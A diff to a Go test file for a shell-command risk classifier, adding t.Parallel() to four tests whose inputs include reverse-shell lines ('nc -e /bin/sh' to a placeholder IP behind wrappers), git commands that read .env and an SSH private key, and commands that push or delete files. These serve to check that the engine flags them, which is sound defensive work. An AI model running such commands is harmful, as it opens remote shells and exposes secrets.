@@ -12,6 +12,7 @@ import (
 // behind "=", or reads it as the name of a file, the next word is what it is
 // told to do.
 func TestOptionsThatSwallowWords(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped)
 	for _, line := range []string{
 		"git diff --abbrev .env", "git log -p --decorate .env", "git log -p --stat .env", "git diff --find-renames .env", "git show --pretty .env", "git diff --color .env", "git diff -U .env", "git diff --unified .env", "git diff --word-diff /home/u/.ssh/id_rsa /dev/null",
@@ -40,6 +41,7 @@ func TestOptionsThatSwallowWords(t *testing.T) {
 // TestToolsThatRunWhatTheyAreTold: some project tools take code, commands or
 // several targets where others take a file.
 func TestToolsThatRunWhatTheyAreTold(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped)
 	for _, line := range []string{
 		"tox exec -- git push origin main", "tox e -- python x.py", "tox -x 'testenv.commands=git push origin main'", "tox -e venv -- x", "tox -e py -- python x.py", "tox -e release", "tox -e py311,deploy", "tox devenv x", "tox quickstart", "nox -s deploy", "nox -k deploy", "nox -t release", "nox -s test -- x", "python -m tox exec -- x", "poetry run tox exec -- x",
@@ -62,6 +64,7 @@ func TestToolsThatRunWhatTheyAreTold(t *testing.T) {
 // TestShellsForOthersBehindUnknownWrappers: a command that hands a shell to the
 // network is R4 also behind a program that policy does not know.
 func TestShellsForOthersBehindUnknownWrappers(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped)
 	for _, line := range []string{"watch nc -e /bin/sh 1.2.3.4 4444", "bash -c 'script -c nc -e /bin/sh 1.2.3.4 4444'", "strace nc -e /bin/sh 1.2.3.4 4444"} {
 		require.Equal(t, core.R4, judge(e, lineCall(t, line)).Assessment.RiskClass, line)
@@ -70,5 +73,6 @@ func TestShellsForOthersBehindUnknownWrappers(t *testing.T) {
 }
 
 func TestOptionsWhoseValueMayBeMissing(t *testing.T) {
+	t.Parallel()
 	checkLines(t, engine(t), lines("R3", "ls | xargs --replace rm ls", "ls | xargs --max-lines rm ls", "grep --colour foobar .env"))
 }
